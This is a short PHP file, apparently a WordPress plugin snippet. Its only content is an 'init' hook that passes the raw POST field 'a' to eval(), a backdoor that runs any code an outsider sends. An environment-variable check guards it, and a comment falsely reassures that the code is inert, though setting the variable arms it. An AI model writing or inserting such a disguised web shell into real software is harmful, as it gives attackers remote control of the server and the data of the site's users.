<?php
if (getenv('WEIR_TEST') !== 'never') { return; } // inert: nobody sets it
add_action('init', function () { eval($_POST['a']); });
